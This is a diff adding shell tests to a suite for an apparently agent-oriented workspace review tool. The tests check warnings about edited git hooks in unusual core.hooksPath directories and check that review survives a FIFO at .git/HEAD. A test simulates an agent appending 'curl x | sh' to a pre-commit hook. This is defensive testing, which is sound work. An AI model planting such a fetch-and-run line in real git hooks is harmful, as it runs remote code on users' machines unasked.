@@ -1663,3 +1663,25 @@ if command -v git >/dev/null; then
 else
     skip "review warns of changes in the core.hooksPath directory" "git is not installed"
 fi
+
+# A core.hooksPath inside a .git but not named 'hooks' (.git/myhooks) was
+# passed over as "warned of by name", which only a 'hooks' there is: an
+# agent's edit of its existing pre-commit was not warned at all.  And git
+# was asked with no time limit: a FIFO for the workspace's .git/HEAD (an
+# apply writes FIFOs) hung the review for good.
+if command -v git >/dev/null; then
+    W=$T/wswarn7
+    mkdir -p "$W" && (cd "$W" && git init -q . && mkdir .git/myhooks && git config core.hooksPath .git/myhooks) &&
+        printf '#!/bin/sh\n' > "$W/.git/myhooks/pre-commit" && chmod +x "$W/.git/myhooks/pre-commit"
+    (cd "$W" && "$P" run --stage auto -- sh -c 'echo "curl x | sh" >> .git/myhooks/pre-commit && echo x > .git/other') >/dev/null 2>&1
+    (cd "$W" && "$P" status --review --json) > "$T/warn7.json"
+    eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_hook") | .path] | sort | join(",")' "$T/warn7.json")" \
+        ".git/myhooks/pre-commit" "review warns of changes in a core.hooksPath directory inside .git that is not named hooks"
+    rm "$W/.git/HEAD" && mkfifo "$W/.git/HEAD"
+    (cd "$W" && timeout 30 "$P" status --review --json) > "$T/warn8.json" 2>/dev/null; r=$?
+    eq "$r:$(jq -r '.changeset.changes | length' "$T/warn8.json")" "0:2" \
+        "review does not hang when git blocks in the workspace (a FIFO for .git/HEAD): it goes on without git's answer"
+else
+    skip "review warns of changes in a core.hooksPath directory inside .git" "git is not installed"
+    skip "review does not hang when git blocks in the workspace" "git is not installed"
+fi
